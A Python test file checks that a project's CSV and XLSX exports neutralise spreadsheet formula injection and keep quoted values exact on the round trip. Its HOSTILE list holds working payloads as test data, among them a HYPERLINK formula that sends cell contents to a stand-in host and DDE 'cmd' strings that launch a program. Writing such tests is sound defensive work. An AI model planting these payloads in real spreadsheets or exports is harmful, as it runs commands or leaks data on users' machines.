"""Safe exports (issue « who may change the store »): no CSV this project writes runs a formula
when opened in a spreadsheet, XLSX keeps text as text, and the round trip stays exact.

Before this issue ``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0`` and ``@SUM(1+1)`` in names were
written verbatim into the tidy CSV (page and CLI) and into the ``;``+BOM CSV of the pages."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from conftest import ROOT

from butdata.cellsafe import neutralise, neutralise_frame, restore
from butdata.store import build_store, open_store

# What the probe put in names, and the other starts OWASP lists (tab, carriage return).
HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\tTABULATION=1+1",
    "\r=1+1",
]
ORDINARY = ["Anglais", "-", "'", "", "'=déjà cité", "''@deux", "-0.5", "+3", "1e5", "12,5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_dangerous_start_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ORDINARY)
def test_numbers_and_ordinary_text_round_trip(text):
    if text in ("-0.5", "+3", "1e5", "12,5", "Anglais", "", "'"):
        assert neutralise(text) == text  # numbers are not formulas
    assert restore(neutralise(text)) == text


def test_the_frame_rule_is_the_same_rule():
    texts = HOSTILE + ORDINARY
    df = pl.DataFrame({"t": texts, "n": list(range(len(texts)))})
    assert neutralise_frame(df)["t"].to_list() == [neutralise(t) for t in texts]
    assert neutralise_frame(df)["n"].to_list() == list(range(len(texts)))


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> tuple[Path, Path]:
    """A store whose parcours, module names and titles are the hostile strings (read from a
    template an operator put in the sources directory)."""
    base = tmp_path_factory.mktemp("formules")
    sources = base / "sources"
    sources.mkdir()
    rows = [
        [
            "formation",
            "semestre",
            "parcours",
            "UE",
            "Code module",
            "Intitulé du module",
            "Coefficient",
        ]
    ]
    for i, text in enumerate(HOSTILE):
        rows.append(["QLIO", "1", f"{text} P{i}", "UE11", f"R1.0{i}", text, "2"])
        rows.append(["QLIO", "1", f"{text} P{i}", "UE12", "SAE1.01", "@Projet", "1,5"])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    (sources / "formules.csv").write_text(buffer.getvalue(), encoding="utf-8")
    db = base / "store.duckdb"
    build_store(sources, db)
    return base, db


def _stored_names(db: Path) -> list[str]:
    con = open_store(db)
    try:
        return [
            r[0]
            for r in con.execute("SELECT DISTINCT module_name FROM modules ORDER BY ALL").fetchall()
        ]
    finally:
        con.close()


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: a dangerous first character, not a plain number."""
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and neutralise(c) != c]


def test_hostile_names_are_stored_as_typed(hostile_store):
    _, db = hostile_store
    # the reader strips surrounding blanks (tab, CR) like any cell; the rest is kept exactly
    assert set(_stored_names(db)) == {t.strip() for t in HOSTILE} | {"@Projet"}


def test_cli_export_csv_runs_no_formula_and_reads_back_exactly(hostile_store, tmp_path):
    _, db = hostile_store
    out = tmp_path / "rt" / "export.csv"
    done = subprocess.run(
        [sys.executable, "-m", "butdata", "export", "--db", str(db), "--out", str(out)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    cells = _cells(out.read_text(encoding="utf-8"))
    assert _unsafe(cells) == []
    assert "'@SUM(1+1)" in cells and "'+cmd|' /C calc'!A0" in cells
    build_store(out.parent, tmp_path / "rt.duckdb")  # the reader removes exactly the quote
    assert _stored_names(tmp_path / "rt.duckdb") == _stored_names(db)


def test_page_downloads_run_no_formula(hostile_store, monkeypatch):
    from ui import donnees, downloads

    _, db = hostile_store
    monkeypatch.setenv("BUTDATA_DB", str(db))
    tidy = donnees._export_bytes("csv", None, None).decode("utf-8")
    assert _unsafe(_cells(tidy)) == [] and "'=HYPERLINK(" in tidy

    # the « ; » + BOM CSV of any table shown on a page
    con = open_store(db)
    shown = con.sql("SELECT table_id, parcours, title FROM tables ORDER BY ALL").pl()
    con.close()
    data = downloads._csv(downloads.exportable(shown))
    assert data.startswith(b"\xef\xbb\xbf")
    cells = _cells(data.decode("utf-8-sig"), ";")
    assert _unsafe(cells) == [] and any(c.startswith("'+cmd") for c in cells)

    # XLSX: typed cells; the text stays text (never a formula)
    for book_bytes in (
        downloads._xlsx(shown, "tableaux"),
        donnees._export_bytes("xlsx", None, None),
    ):
        book = openpyxl.load_workbook(io.BytesIO(book_bytes))
        texts = [
            c
            for ws in book.worksheets
            for row in ws.iter_rows()
            for c in row
            if isinstance(c.value, str) and c.value[:1] in "=+-@"
        ]
        assert texts and all(c.data_type == "s" for c in texts)
        assert any(c.value.startswith("=HYPERLINK(") for c in texts)  # exact, unquoted
